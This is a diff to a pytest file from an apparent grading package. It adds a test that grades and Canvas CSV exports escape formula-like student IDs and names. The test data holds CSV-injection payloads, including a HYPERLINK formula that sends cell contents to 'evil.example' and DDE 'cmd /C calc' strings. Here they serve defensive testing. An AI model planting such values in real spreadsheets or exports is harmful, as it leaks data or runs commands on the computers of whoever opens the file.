@@ -14,14 +14,15 @@ from pathlib import Path
 import pytest
 
 import course_config
-from graders.frontends.grade.term import decisions
 from graders.frontends.grade import lms
+from graders.frontends.grade.lms.canvas import canvas_csv
 from graders.frontends.grade.lms.platform import GradeImport
 from graders.frontends.grade.outputs import regrade, tables
 from graders.frontends.grade.outputs.similarity import Pair, similarity_csv
 from graders.frontends.grade.spreadsheet import FORMULA_STARTS, cell
-from graders.frontends.grade.term.standing import Person, Standing
 from graders.frontends.grade.store import StudentRecord
+from graders.frontends.grade.term import decisions
+from graders.frontends.grade.term.standing import Person, Standing, build_standings
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
 EVILS = [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
@@ -120,3 +121,19 @@ def test_every_csv_the_package_writes_goes_through_the_guard() -> None:
                     and node.attr in ("writer", "DictWriter"):
                 found.append(f"{path.relative_to(course_config.ROOT)}:{node.lineno} csv.{node.attr}")
     assert not found, f"CSV written past spreadsheet.guarded_writer / GuardedDictWriter: {found}"
+
+
+def _record(student: str, **scores: float) -> StudentRecord:
+    exercises = [{"slug": slug, "score": points, "max_score": 10.0, "checks": []} for slug, points in scores.items()]
+    return StudentRecord.from_dict({"student": student, "score": sum(scores.values()), "max_score": 20.0,
+                                    "exercises": exercises, "problems": [], "error": ""})
+
+
+def test_grades_csv_and_the_lms_files_write_a_formula_like_id_as_text() -> None:
+    evil = '=cmd|" /C calc"!A0'
+    records = [_record(evil, views=5.0)]
+    standings = build_standings(records, 100.0, roster={evil: Person(evil, name="@SUM(1+1)")})
+    grades = list(csv.DictReader(io.StringIO(tables.grades_csv(records, course_config.LESSON_01, standings))))
+    assert grades[0]["student"] == f"'{evil}" and grades[0]["name"] == "'@SUM(1+1)" and grades[0]["score"] == "5"
+    canvas = list(csv.reader(io.StringIO(canvas_csv(list(standings.values()), "lesson01", 100.0))))
+    assert canvas[2][:2] == ["'@SUM(1+1)", f"'{evil}"]
